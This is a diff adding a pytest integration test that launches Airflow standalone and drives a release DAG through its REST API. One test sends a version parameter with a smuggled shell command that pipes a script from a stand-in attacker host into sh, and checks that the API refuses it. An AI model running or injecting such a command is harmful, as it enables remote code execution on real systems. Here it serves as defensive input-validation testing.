@@ -1,0 +1,127 @@
+"""CI's path: `airflow standalone` (api-server, scheduler, LocalExecutor, triggerer) and the REST API.
+
+Unlike `dags test`, the health waits here run in a real triggerer process and each task in its
+own worker process, as they do in production.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import subprocess
+import time
+import urllib.error
+import urllib.request
+from pathlib import Path
+
+import pytest
+
+from tests.support.stack import gateway_versions
+from varai_deploy.config import REPO_ROOT
+from varai_deploy.services import SERVICE_NAMES
+
+pytestmark = pytest.mark.integration
+
+API_PORT = 19880
+API = f"http://127.0.0.1:{API_PORT}"
+
+
+def call(method: str, path: str, token: str | None = None, body: dict | None = None) -> tuple[int, dict]:
+    headers = {"Content-Type": "application/json"}
+    if token:
+        headers["Authorization"] = f"Bearer {token}"
+    data = json.dumps(body).encode() if body is not None else None
+    request = urllib.request.Request(API + path, data=data, method=method, headers=headers)
+    try:
+        with urllib.request.urlopen(request, timeout=10) as resp:
+            return resp.status, json.loads(resp.read() or b"{}")
+    except urllib.error.HTTPError as exc:
+        return exc.code, json.loads(exc.read() or b"{}")
+
+
+@pytest.fixture(scope="module")
+def airflow_api(stack, sandbox):
+    log = Path(stack["VARAI_AIRFLOW_HOME"]) / "standalone.log"
+    env = {**os.environ, "AIRFLOW__API__PORT": str(API_PORT)}
+    with log.open("w") as out:
+        proc = subprocess.Popen(
+            [str(REPO_ROOT / "airflow.sh"), "standalone"],
+            env=env,
+            stdout=out,
+            stderr=subprocess.STDOUT,
+            start_new_session=True,
+        )
+    try:
+        deadline = time.monotonic() + 120
+        while True:
+            try:
+                status, health = call("GET", "/api/v2/monitor/health")
+                if status == 200 and all(
+                    health.get(part, {}).get("status") == "healthy"
+                    for part in ("metadatabase", "scheduler", "triggerer", "dag_processor")
+                ):
+                    break
+            except (urllib.error.URLError, ConnectionError):
+                pass
+            assert proc.poll() is None, log.read_text()[-3000:]
+            assert time.monotonic() < deadline, (
+                "airflow standalone did not become healthy: " + log.read_text()[-3000:]
+            )
+            time.sleep(1)
+        passwords = Path(stack["VARAI_AIRFLOW_HOME"]) / "simple_auth_manager_passwords.json.generated"
+        password = json.loads(passwords.read_text())["admin"]
+        status, body = call("POST", "/auth/token", body={"username": "admin", "password": password})
+        assert status in (200, 201), body
+        yield body["access_token"]
+    finally:
+        os.killpg(proc.pid, signal.SIGINT)
+        try:
+            proc.wait(timeout=30)
+        except subprocess.TimeoutExpired:
+            os.killpg(proc.pid, signal.SIGKILL)
+            proc.wait()
+        subprocess.run(["pkill", "-KILL", "-g", str(proc.pid)], check=False)
+
+
+def wait_for_dag(token: str) -> None:
+    deadline = time.monotonic() + 90
+    while call("GET", "/api/v2/dags/ai_discovery_release", token)[0] != 200:
+        assert time.monotonic() < deadline, "the dag-processor never registered ai_discovery_release"
+        time.sleep(1)
+
+
+def test_bad_params_are_refused_with_400_and_no_run(airflow_api):
+    wait_for_dag(airflow_api)
+    status, body = call(
+        "POST",
+        "/api/v2/dags/ai_discovery_release/dagRuns",
+        airflow_api,
+        {"logical_date": None, "conf": {"version": "v2.0.0; curl evil.example | sh"}},
+    )
+    assert status == 400
+    assert "Invalid input for param version" in body["detail"]
+    assert call("GET", "/api/v2/dags/ai_discovery_release/dagRuns", airflow_api)[1]["total_entries"] == 0
+
+
+def test_a_release_triggered_through_the_rest_api_goes_live(airflow_api):
+    wait_for_dag(airflow_api)
+    status, run = call(
+        "POST",
+        "/api/v2/dags/ai_discovery_release/dagRuns",
+        airflow_api,
+        {"logical_date": None, "conf": {"version": "v1.2.0", "environment": "sandbox"}},
+    )
+    assert status == 200, run
+    path = f"/api/v2/dags/ai_discovery_release/dagRuns/{run['dag_run_id']}"
+    deadline = time.monotonic() + 240
+    while (state := call("GET", path, airflow_api)[1]["state"]) in ("queued", "running"):
+        assert time.monotonic() < deadline, "release did not finish in time"
+        time.sleep(2)
+    assert state == "success"
+    assert {name: answer[1] for name, answer in gateway_versions().items()} == dict.fromkeys(
+        SERVICE_NAMES, "v1.2.0"
+    )
+    tis = call("GET", f"{path}/taskInstances?limit=100", airflow_api)[1]["task_instances"]
+    waits = [ti for ti in tis if ti["task_id"] == "backend.candidates.wait_healthy"]
+    assert len(waits) == len(SERVICE_NAMES) and all(ti["state"] == "success" for ti in waits)
